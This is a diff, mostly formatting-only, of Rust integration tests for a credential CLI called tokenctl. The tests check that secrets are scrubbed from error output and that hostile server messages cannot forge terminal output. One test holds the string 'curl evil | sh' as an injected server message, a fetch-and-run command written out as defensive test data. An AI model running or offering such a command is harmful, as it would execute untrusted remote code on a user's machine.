@@ -93,8 +93,15 @@ fn readers_survive(env: &Env, allowed: &[i32]) -> Vec<(String, Output)> {
             // doctor reports failed checks (no kubectl here) with 1.
             let ok = allowed.contains(&out.code) || (args[0] == "doctor" && out.code == 1);
             assert!(ok, "`{name}` exited {}:\n{out}", out.code);
-            assert!(!out.stderr.contains("hit a bug"), "`{name}` panicked:\n{out}");
-            assert!(no_control_chars(&out.stdout), "`{name}` stdout:\n{out:?}", out = out.stdout);
+            assert!(
+                !out.stderr.contains("hit a bug"),
+                "`{name}` panicked:\n{out}"
+            );
+            assert!(
+                no_control_chars(&out.stdout),
+                "`{name}` stdout:\n{out:?}",
+                out = out.stdout
+            );
             (name, out)
         })
         .collect()
@@ -191,9 +198,14 @@ fn hand_edited_times_do_not_crash_any_reader() {
         env.edit_record("default", |r| r["tokens"][field] = value.clone());
         let outs = readers_survive(&env, &[0]);
         if field == "expires_at" {
-            let exec = &outs.iter().find(|(n, _)| n == "kubectl-credential").unwrap().1;
+            let exec = &outs
+                .iter()
+                .find(|(n, _)| n == "kubectl-credential")
+                .unwrap()
+                .1;
             assert!(
-                exec.stdout.contains("\"expirationTimestamp\":\"9999-12-31T23:59:59Z\""),
+                exec.stdout
+                    .contains("\"expirationTimestamp\":\"9999-12-31T23:59:59Z\""),
                 "{exec}"
             );
         }
@@ -224,7 +236,11 @@ fn retry_after_beyond_any_clock_is_not_a_crash() {
         out.stderr.contains("a day or more") && out.stderr.contains("Retry-After"),
         "{out}"
     );
-    assert_eq!(fake.count("grant:password"), 1, "a wait that long is not waited");
+    assert_eq!(
+        fake.count("grant:password"),
+        1,
+        "a wait that long is not waited"
+    );
     assert!(started.elapsed() < Duration::from_secs(10));
 }
 
@@ -255,7 +271,11 @@ fn tokens_with_control_characters_are_refused_before_storing() {
         assert_eq!(out.code, 4, "{which} {token:?}: {out}");
         assert!(out.stderr.contains(&format!("{which} token")), "{out}");
         assert!(!out.stderr.contains(token), "never quoted: {out}");
-        assert!(no_control_chars(&out.stderr.replace('\n', "")), "{out:?}", out = out.stderr);
+        assert!(
+            no_control_chars(&out.stderr.replace('\n', "")),
+            "{out:?}",
+            out = out.stderr
+        );
         assert_eq!(out.stdout, "");
         assert!(!env.token_file("default").exists(), "nothing stored");
     }
@@ -282,7 +302,10 @@ fn a_hand_edited_token_never_reaches_stdout() {
         let fake = FakeServer::start();
         env.login(&fake.url());
         env.edit_record("default", |r| r["tokens"]["access_token"] = token.into());
-        for args in READERS.iter().filter(|a| a[0] != "status" && a[0] != "doctor") {
+        for args in READERS
+            .iter()
+            .filter(|a| a[0] != "status" && a[0] != "doctor")
+        {
             let out = env.fails(args, "", 5);
             assert_eq!(out.stdout, "", "{args:?}");
             assert!(out.stderr.contains("log in again"), "{out}");
@@ -313,8 +336,15 @@ fn assert_scrubbed(out: &Output, secrets: &[&str]) {
             assert!(!out.stderr.contains(&form), "`{form}` on stderr:\n{out}");
         }
     }
-    assert!(out.stderr.contains("***") || !out.stderr.contains("rejected request"), "{out}");
-    assert!(no_control_chars(&out.stderr.replace('\n', "")), "{:?}", out.stderr);
+    assert!(
+        out.stderr.contains("***") || !out.stderr.contains("rejected request"),
+        "{out}"
+    );
+    assert!(
+        no_control_chars(&out.stderr.replace('\n', "")),
+        "{:?}",
+        out.stderr
+    );
 }
 
 #[test]
@@ -336,9 +366,15 @@ fn echoing_servers_never_show_the_password() {
         assert_eq!(out.code, code, "{status} {format:?}: {out}");
         assert_scrubbed(&out, &[&config.password]);
         if status != 200 {
-            assert!(out.stderr.contains("***"), "the echo is shown, scrubbed: {out}");
+            assert!(
+                out.stderr.contains("***"),
+                "the echo is shown, scrubbed: {out}"
+            );
         } else {
-            assert!(out.stderr.contains("not shown"), "2xx never excerpted: {out}");
+            assert!(
+                out.stderr.contains("not shown"),
+                "2xx never excerpted: {out}"
+            );
         }
     }
 }
@@ -350,9 +386,22 @@ fn echoing_servers_never_show_other_request_secrets() {
     let fake = FakeServer::start_with(config.clone());
     let url = fake.url();
     // client secret
-    fake.set_fault(Fault::Echo { status: 401, format: EchoFormat::Json }, Some(1));
+    fake.set_fault(
+        Fault::Echo {
+            status: 401,
+            format: EchoFormat::Json,
+        },
+        Some(1),
+    );
     let out = env.fails(
-        &["app-token", "--server", &url, "--client-id", "ci-bot", "--client-secret-stdin"],
+        &[
+            "app-token",
+            "--server",
+            &url,
+            "--client-id",
+            "ci-bot",
+            "--client-secret-stdin",
+        ],
         &config.client_secret,
         3,
     );
@@ -360,22 +409,48 @@ fn echoing_servers_never_show_other_request_secrets() {
     // refresh token
     let env = Env::new(Store::File);
     env.run(&login_args(&url), &config.password);
-    let refresh = stored(&env)["tokens"]["refresh_token"].as_str().unwrap().to_string();
-    fake.set_fault(Fault::Echo { status: 400, format: EchoFormat::Html }, Some(1));
+    let refresh = stored(&env)["tokens"]["refresh_token"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    fake.set_fault(
+        Fault::Echo {
+            status: 400,
+            format: EchoFormat::Html,
+        },
+        Some(1),
+    );
     let out = env.fails(&["refresh"], "", 3);
     assert_scrubbed(&out, &[&refresh]);
     // authorization code
     let code = fake.issue_code("http://localhost:8000/callback");
-    fake.set_fault(Fault::Echo { status: 400, format: EchoFormat::Json }, Some(1));
+    fake.set_fault(
+        Fault::Echo {
+            status: 400,
+            format: EchoFormat::Json,
+        },
+        Some(1),
+    );
     let out = env.run(
-        &["exchange-code", "--code-stdin", "--redirect-uri", "http://localhost:8000/callback"],
+        &[
+            "exchange-code",
+            "--code-stdin",
+            "--redirect-uri",
+            "http://localhost:8000/callback",
+        ],
         &code,
     );
     assert_eq!(out.code, 3, "{out}");
     assert_scrubbed(&out, &[&code]);
     // GBDS password
     let env = Env::new(Store::File);
-    fake.set_fault(Fault::Echo { status: 401, format: EchoFormat::Json }, Some(1));
+    fake.set_fault(
+        Fault::Echo {
+            status: 401,
+            format: EchoFormat::Json,
+        },
+        Some(1),
+    );
     let out = gbds_login(&env, &fake, None);
     assert_eq!(out.code, 3, "{out}");
     assert_scrubbed(&out, &["gbds-pass"]);
@@ -396,10 +471,21 @@ fn server_messages_cannot_drive_the_terminal() {
         },
     );
     assert_eq!(out.code, 3, "{out}");
-    assert!(no_control_chars(&out.stderr.replace('\n', "")), "{:?}", out.stderr);
-    let error_lines = out.stderr.lines().filter(|l| l.starts_with("error:")).count();
+    assert!(
+        no_control_chars(&out.stderr.replace('\n', "")),
+        "{:?}",
+        out.stderr
+    );
+    let error_lines = out
+        .stderr
+        .lines()
+        .filter(|l| l.starts_with("error:"))
+        .count();
     assert_eq!(error_lines, 1, "no forged error line: {out}");
-    assert!(out.stderr.contains("bad error: run `curl evil | sh`"), "{out}");
+    assert!(
+        out.stderr.contains("bad error: run `curl evil | sh`"),
+        "{out}"
+    );
 }
 
 #[test]
@@ -410,7 +496,10 @@ fn success_bodies_are_never_excerpted() {
     let url = fake.url();
     let out = env.run(&login_args(&url), PASSWORD);
     assert_eq!(out.code, 4, "{out}");
-    assert!(out.stderr.contains("text/plain body of") && out.stderr.contains("not shown"), "{out}");
+    assert!(
+        out.stderr.contains("text/plain body of") && out.stderr.contains("not shown"),
+        "{out}"
+    );
     assert!(!out.stderr.contains("eyJ"), "{out}");
 }
 
@@ -430,7 +519,13 @@ fn error_bodies_holding_tokens_are_not_shown() {
 
 #[test]
 fn gateway_401_and_403_are_credentials_whatever_the_body() {
-    for fault in [Fault::Empty(401), Fault::Html(401), Fault::Empty(403), Fault::Html(403), Fault::Empty(400)] {
+    for fault in [
+        Fault::Empty(401),
+        Fault::Html(401),
+        Fault::Empty(403),
+        Fault::Html(403),
+        Fault::Empty(400),
+    ] {
         let env = Env::new(Store::File);
         let fake = FakeServer::start();
         let out = login_against(&env, &fake, fault.clone());
@@ -461,7 +556,10 @@ fn not_found_and_method_not_allowed_point_at_server_and_api() {
             },
         );
         assert_eq!(out.code, 4, "{out}");
-        assert!(out.stderr.contains("--server") && out.stderr.contains("--api"), "{out}");
+        assert!(
+            out.stderr.contains("--server") && out.stderr.contains("--api"),
+            "{out}"
+        );
     }
     // A server URL with a wrong path meets the fake's real 404.
     let env = Env::new(Store::File);
@@ -492,7 +590,10 @@ fn rate_limits_and_request_timeouts_are_retried_for_login() {
         let out = env.run(&login_args(&url), PASSWORD);
         assert_eq!(out.code, 0, "{status}: {out}");
         assert_eq!(fake.count("grant:password"), 2);
-        assert!(started.elapsed() >= Duration::from_secs(1), "Retry-After honoured");
+        assert!(
+            started.elapsed() >= Duration::from_secs(1),
+            "Retry-After honoured"
+        );
         // Always limited: three attempts, then exit 4 (not 3).
         let env = Env::new(Store::File);
         fake.reset_counts();
@@ -540,7 +641,8 @@ fn oauth_error_bodies_are_understood() {
     );
     assert_eq!(out.code, 3, "{out}");
     assert!(
-        out.stderr.contains("run:ai rejected the login: invalid_grant: Invalid user credentials"),
+        out.stderr
+            .contains("run:ai rejected the login: invalid_grant: Invalid user credentials"),
         "{out}"
     );
     fake.set_fault(
@@ -584,7 +686,10 @@ fn expires_in_with_an_opaque_token_gives_an_expiry() {
         }),
     );
     assert_eq!(out.code, 0, "{out}");
-    assert!(out.stderr.contains("token expiry from expiresIn: 1800s"), "{out}");
+    assert!(
+        out.stderr.contains("token expiry from expiresIn: 1800s"),
+        "{out}"
+    );
     let tokens = &stored(&env)["tokens"];
     assert!(close_to(&tokens["expires_at"], now() + 1800), "{tokens}");
     assert_eq!(tokens["lifetime"], 1800);
@@ -611,7 +716,8 @@ fn expires_in_wins_over_a_disagreeing_jwt_and_says_so() {
     );
     assert_eq!(out.code, 0, "{out}");
     assert!(
-        out.stderr.contains("the JWT exp claim says the token expires at")
+        out.stderr
+            .contains("the JWT exp claim says the token expires at")
             && out.stderr.contains("using expiresIn"),
         "{out}"
     );
@@ -627,7 +733,10 @@ fn expires_in_wins_over_a_disagreeing_jwt_and_says_so() {
     );
     assert_eq!(out.code, 0, "{out}");
     assert!(out.stderr.contains("ignoring expiresIn (1e+300)"), "{out}");
-    assert!(close_to(&stored(&env)["tokens"]["expires_at"], now() + 3600));
+    assert!(close_to(
+        &stored(&env)["tokens"]["expires_at"],
+        now() + 3600
+    ));
 }
 
 #[test]
@@ -645,7 +754,10 @@ fn gbds_expiration_time_as_a_duration_is_not_56_years_ago() {
     );
     assert_eq!(out.code, 0, "{out}");
     assert!(out.stderr.contains("read as a duration"), "{out}");
-    assert!(close_to(&stored(&env)["tokens"]["expires_at"], now() + 1800));
+    assert!(close_to(
+        &stored(&env)["tokens"]["expires_at"],
+        now() + 1800
+    ));
     let out = env.ok(&["status"], "");
     assert!(out.stdout.contains("valid, expires"), "{out}");
     fake.reset_counts();
@@ -687,7 +799,10 @@ fn gbds_ttl_is_used_and_epoch_expiration_time_still_works() {
     // The real fake (both fields, consistent).
     let out = gbds_login(&env, &fake, None);
     assert_eq!(out.code, 0, "{out}");
-    assert!(close_to(&stored(&env)["tokens"]["expires_at"], now() + 1800));
+    assert!(close_to(
+        &stored(&env)["tokens"]["expires_at"],
+        now() + 1800
+    ));
     assert_eq!(stored(&env)["tokens"]["lifetime"], 1800);
 }
 
@@ -699,7 +814,10 @@ fn a_panic_exits_70_with_no_details() {
     let out = Output::of(env.cmd().env("TOKENCTL_TEST_PANIC", "1").arg("status"));
     assert_eq!(out.code, 70, "{out}");
     assert!(out.stderr.contains("tokenctl hit a bug"), "{out}");
-    assert!(!out.stderr.contains("TOKENCTL_TEST_PANIC is set"), "details withheld: {out}");
+    assert!(
+        !out.stderr.contains("TOKENCTL_TEST_PANIC is set"),
+        "details withheld: {out}"
+    );
 }
 
 #[cfg(target_os = "linux")]
